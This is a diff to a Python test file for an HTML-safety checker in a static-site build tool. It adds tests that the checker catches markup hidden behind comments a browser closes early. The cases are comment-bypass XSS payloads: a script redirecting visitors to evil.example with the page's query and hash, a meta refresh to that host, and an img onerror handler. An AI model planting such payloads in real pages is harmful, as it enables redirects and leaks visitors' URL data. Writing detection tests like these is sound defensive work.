@@ -180,3 +180,22 @@ _NO_OPENERS = st.lists(st.sampled_from(list("abc xyz:;/!#*_-+=|>`~&()\"'\n\t.012
 def test_text_without_markup_openers_renders_within_the_allow_list(text):
     """The shortcut in markdown_dangers (no '<', '[' or '{': nothing to clean) holds when rendered."""
     assert htmlsafety.dangers(htmlsafety.render(text)) == []
+
+
+@pytest.mark.parametrize("text", [
+    # "<!-->" and "<!--->" close a comment in a browser (HTML5) but not for Python's HTMLParser: the
+    # check saw one comment, a plain MkDocs build of `hwbsite generate`'s tree published the script
+    # (verify then failed it) or a meta refresh to another site
+    '<!--> <script>window.location.replace(["//evil.example/x",window.location.search,'
+    'window.location.hash].join(""))</script> -->',
+    '<!---> <meta http-equiv="refresh" content="0;url=//evil.example/"> -->',
+    '<!--> <img src="x.png" alt="" onerror="alert(1)"> -->',
+])
+def test_markup_after_a_comment_a_browser_closes_early_is_found(text):
+    found = htmlsafety.locate("# Page\n\n" + text + "\n\nText.\n")
+    assert found is not None and found.line == 3
+    assert found.what in ("<script>", "<meta>", "the event handler onerror= on <img>")
+
+
+def test_a_comment_closed_the_usual_way_is_still_fine():
+    assert htmlsafety.locate("# Page\n\n<!-- a note for editors -->\n\nText.\n") is None
